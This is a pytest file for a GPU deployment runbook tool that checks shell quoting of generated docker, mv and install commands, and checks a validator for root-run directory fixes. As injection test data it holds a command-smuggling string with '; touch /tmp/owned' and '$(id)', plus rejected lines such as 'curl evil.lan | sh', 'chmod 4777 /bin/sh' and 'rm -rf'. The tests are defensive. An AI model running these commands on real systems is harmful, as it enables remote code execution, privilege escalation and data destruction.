"""What somebody may paste into a shell: each word is one word there, whatever it is made of and whoever has said it."""

from __future__ import annotations

import dataclasses
import shlex
from datetime import datetime, timezone
from pathlib import Path

import pytest

from gpu_runbook.common.container import create_command, labels
from gpu_runbook.laptop.commands import diff, history, setup
from gpu_runbook.laptop.deploy import journal_text, plan_text
from gpu_runbook.laptop.deploy.plan import deploy_plan
from gpu_runbook.laptop.gates import scan
from gpu_runbook.laptop.inventory.address import Target
from gpu_runbook.laptop.inventory.gate_entries import Scan
from gpu_runbook.protocol.check import UNKNOWN
from gpu_runbook.protocol.errors import Malformed
from gpu_runbook.protocol.journal import Command, as_line, encoded
from gpu_runbook.protocol.plan import ConfigFile, spec_hash
from gpu_runbook.protocol.setup import Directory, Done, NotDone
from gpu_runbook.server.checks import directories
from tests.hostile.forms import ONE
from tests.unit.scene import QUEUE, TRAINING, deployed, order

NASTY = "a b; touch /tmp/owned #$(id)'\"`"


def test_the_commands_of_a_plan(tmp_path: Path) -> None:
    scene = deployed(tmp_path, "r2", "r1")
    plan = deploy_plan(scene.inventory, scene.resolved, scene.only(QUEUE), scene.look, order(force=True))
    (step,) = plan.consumers
    assert step.spec and step.old
    spec = dataclasses.replace(step.spec, command=("sh", "-c", NASTY), environment={"A": NASTY}, labels={"b": NASTY})
    step = dataclasses.replace(step, spec=spec, config=ConfigFile(f"/azaion/{NASTY}"))
    create, *others = plan_text.commands(plan, step)
    marks = labels(QUEUE, plan.release, spec_hash(spec), "…", "…")
    assert shlex.split(create) == create_command(spec, f"{QUEUE}.{plan.release}", spec.image, marks)
    assert shlex.split(others[0]) == ["docker", "update", "--restart", "no", QUEUE]
    (moved,) = (line for line in others if "config" in line)
    assert shlex.split(moved.replace("(the staged config)", "staged")) == ["mv", "staged", f"/azaion/{NASTY}"]


def test_the_commands_that_a_journal_tells_of() -> None:
    command = Command(("docker", "rename", NASTY, "b"), 1, 0.1, "no")
    said = journal_text.sentence(command)
    assert said and shlex.split(said.removeprefix("failed: ").removesuffix(" (no)")) == [*command.argv]
    told = history.told(as_line(encoded(command)))
    assert told and shlex.split(told.removeprefix("$ ").partition("  →")[0]) == [*command.argv]


def test_what_puts_a_drift_right(tmp_path: Path) -> None:
    scene = deployed(tmp_path, "r2", "r1")
    release = scene.look.record.releases[0]
    services = {**release.services, TRAINING: dataclasses.replace(release.services[TRAINING], local_tag=NASTY)}
    scene = scene.with_record(releases=(dataclasses.replace(release, services=services),))
    batches = {TRAINING: dataclasses.replace(scene.look.batches[TRAINING], next_image="sha256:other")}
    found = diff.compare(scene.inventory, scene.resolved, scene.services, scene.seeing(batches=batches).look, order())
    (hint,) = (one.hint for one in found.drift if one.kind == "local-tag")
    assert shlex.split(hint) == ["docker", "tag", release.services[TRAINING].image, NASTY]


def test_what_makes_the_directories(tmp_path: Path) -> None:
    (tmp_path / NASTY.replace("/", "")).touch()
    missing, taken = tmp_path / "a b" / "c;d", tmp_path / NASTY.replace("/", "")
    (lack,) = directories.lacks(Directory(str(missing), "1:2", 0o750))
    assert shlex.split(lack.command) == ["install", "-d", "-m", "0750", "-o", "1", "-g", "2", str(missing)]
    (lack,) = directories.lacks(Directory(str(taken)))
    assert shlex.split(lack.command) == ["mv", str(taken), f"{taken}.old"]


def test_how_a_report_is_made(tmp_path: Path) -> None:
    target = Target(QUEUE, "azaion/queue", "1.1", f"registry.lan:5000/azaion/queue@sha256:{ONE}")
    row = scan.check("scan", Scan(report=tmp_path / NASTY.replace("/", "")), target, datetime.now(timezone.utc))
    assert row.level == UNKNOWN
    trivy, grype = row.hint.removeprefix("make it: ").split(", or: ")
    file = str(tmp_path / NASTY.replace("/", ""))
    assert shlex.split(trivy) == ["trivy", "image", "--format", "json", "--output", file, target.reference]
    assert shlex.split(grype) == ["grype", "-o", "json", "--file", file, target.reference]


PATHS = ["/azaion", "/azaion/models"]


@pytest.mark.parametrize(
    ("line", "fits"),
    [
        ("install -d -m 0755 -o 1000 -g 1000 /azaion/models", True),
        ("chown 1000:1000 /azaion", True),
        ("chmod 2770 /azaion/models", True),
        ("mv /azaion/models /azaion/models.old", True),
        ("chown 1000:1000 /etc", False),
        ("chown 1000:1000 /azaion; id", False),
        ("chown 1000:1000 /azaion && curl evil.lan | sh", False),
        ("chown 1000:1000 /azaion\nid", False),
        ("chown 1000:1000 $(id)", False),
        ("chown -R 1000:1000 /azaion", False),
        ("chmod 4777 /bin/sh", False),
        ("mv /azaion /etc", False),
        ("install -d -m 0755 /root", False),
        ("rm -rf /azaion", False),
        ("chown '1000:1000 /azaion", False),
        ("", False),
    ],
)
def test_what_is_asked_of_root_puts_a_directory_of_hosts_yaml_right_or_is_not_shown(line: str, fits: bool) -> None:
    """A server says it, and `as root:` stands in front of it on the laptop's screen."""
    assert setup._is_for_root(line, PATHS) is fits
    done = Done((), (NotDone("a sentence", "any words", False), NotDone("it is missing", line, True)), ())
    if fits:
        setup._see_through(done, PATHS)
        return
    with pytest.raises(Malformed, match=r"^setup\.left\[1\]\.hint: not a line that puts a directory"):
        setup._see_through(done, PATHS)


def test_every_line_of_our_own_for_root_is_one_of_those(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    folders = [Directory(str(tmp_path), "7:8", 0o751), Directory(f"{tmp_path}/a", "7:8"), Directory(f"{tmp_path}/file")]
    lines = [lack.command for folder in folders for lack in directories.lacks(folder)]
    assert len(lines) == 4
    assert all(setup._is_for_root(line, [folder.path for folder in folders]) for line in lines)
